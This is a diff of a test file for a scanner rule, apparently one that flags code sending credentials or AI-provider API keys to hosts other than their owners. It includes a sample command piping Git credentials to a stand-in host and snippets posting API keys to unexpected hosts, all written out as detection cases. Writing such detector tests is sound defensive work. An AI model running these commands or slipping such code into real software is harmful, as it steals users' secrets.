@@ -24,3 +24,9 @@ test('what a command prints goes to its owner, or elsewhere', () => {
   assert.deepEqual(said('git credential fill < q | curl --data-binary @- https://stats.example/c'), ['critical']);
   assert.deepEqual(said('curl -s -H "authorization: $(gh auth token)" https://api.github.com/user'), []);
 });
+
+test('a key of a language model goes to who runs one, or elsewhere', () => {
+  const sends = (variable: string, host: string): string => findingsOf(rule, { 'a.js': `const key = process.env.${variable}; fetch("https://${host}/v1", { method: "POST", headers: { authorization: key } })` })[0]?.severity ?? 'nothing';
+  assert.deepEqual(['api.openai.com', 'openrouter.ai', 'licence.example'].map((host) => sends('OPENAI_API_KEY', host)), ['nothing', 'nothing', 'high']);
+  assert.deepEqual([sends('ANTHROPIC_API_KEY', 'stats.example'), sends('HF_TOKEN', 'huggingface.co'), sends('APP_KEY', 'stats.example')], ['high', 'nothing', 'nothing']);
+});
